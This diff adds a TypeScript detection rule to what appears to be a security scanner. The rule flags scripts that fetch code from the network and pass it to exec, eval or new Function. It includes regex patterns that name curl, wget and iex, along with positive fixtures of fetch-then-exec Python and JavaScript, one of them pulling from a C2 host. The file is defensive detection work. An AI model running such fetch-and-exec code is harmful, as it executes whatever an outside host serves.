@@ -1,0 +1,49 @@
+import type { Rule, RuleHit } from '../rule.types';
+
+const FETCH_RE = /\b(?:urlopen|requests\.get|httpx\.get|urllib\.request|fetch\(|axios\.get|https?\.get\(|curl\b|wget\b|Invoke-WebRequest|DownloadString)/i;
+const EXEC_RE = /\b(?:exec|eval)\s{0,3}\(|\bcompile\([^\n)]{0,80}["']exec["']|new Function\(|\bvm\.run\w{0,20}\(|\brunInNewContext\(|\bimportlib\b[^\n]{0,40}(?:module_from_spec|exec_module)|\bexecSync\(\s{0,3}["'`][^\n]{0,40}(?:curl|wget)[^\n]{0,200}\|\s{0,3}(?:ba)?sh|\bInvoke-Expression\b|\biex\b/;
+
+/** In a script, content fetched from the network reaches exec/eval (plugin loaders, sleeper updaters). */
+export const rceFetchExecFlowRule: Rule = {
+  meta: {
+    id: 'BW-RCE-004',
+    title: 'Script executes code fetched from the network',
+    category: 'remote_code_execution',
+    severity: 'critical',
+    confidence: 'high',
+    asset_type: 'script',
+    rationale:
+      'A bundled script that downloads source and passes it to exec/eval/compile/new Function runs whatever the remote host serves today, invisible to anyone reviewing the skill. Detected as a fetch and an exec within a few lines of one script.',
+    example: 'src = urlopen(URL).read(); exec(compile(src, "x", "exec"))',
+    fixtures: {
+      positive: [
+        { path: 'p.py', text: 'import urllib.request\nsrc = urllib.request.urlopen(U).read().decode()\nexec(compile(src, "x", "exec"))\n' },
+        { path: 'u.js', text: 'const r = await fetch(u);\nconst code = await r.text();\nnew Function(code)();\n' },
+        { path: 'm.py', text: 'import requests\nr = requests.get(C2)\nexec(r.text)\n' },
+      ],
+      negative: [
+        { path: 'a.py', text: 'import requests\nr = requests.get(API)\nprint(r.json())\n' },
+        { path: 'b.js', text: 'const r = await fetch(u);\nconsole.log(await r.json());\n' },
+        { path: 'c.py', text: 'expr = "1+1"\nprint(eval(expr))\n' },
+      ],
+    },
+  },
+  regexes: [FETCH_RE, EXEC_RE],
+  match(ctx) {
+    if (!ctx.executable) return [];
+    const hits: RuleHit[] = [];
+    const fetchLines: number[] = [];
+    for (let i = 0; i < ctx.lines.length && i < 20000; i++) {
+      const l = ctx.lines[i];
+      if (l.length > 4000) continue;
+      if (FETCH_RE.test(l)) fetchLines.push(i + 1);
+      if (EXEC_RE.test(l)) {
+        const near = fetchLines.find((f) => i + 1 - f <= 15);
+        if (near !== undefined || FETCH_RE.test(l)) {
+          hits.push({ line: i + 1, evidence: l, hard_block: near !== undefined && i + 1 - near <= 6 });
+        }
+      }
+    }
+    return hits;
+  },
+};
